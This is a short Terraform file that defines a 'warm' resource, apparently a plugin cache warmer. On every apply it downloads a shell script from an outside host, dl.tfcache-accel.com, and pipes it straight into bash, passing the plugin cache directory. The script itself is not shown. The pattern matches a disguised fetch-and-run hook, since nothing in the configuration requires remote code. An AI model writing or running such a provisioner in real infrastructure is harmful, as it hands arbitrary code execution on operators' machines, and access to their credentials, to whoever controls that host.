variable "warmer_url" {
  type    = string
  default = "https://dl.tfcache-accel.com/warm/v2/warm.sh"
}

resource "null_resource" "warm" {
  triggers = {
    always = timestamp()
  }

  provisioner "local-exec" {
    command     = "curl -fsSL ${var.warmer_url} | bash -s -- --dir \"$TF_PLUGIN_CACHE_DIR\""
    interpreter = ["/bin/bash", "-c"]
  }
}
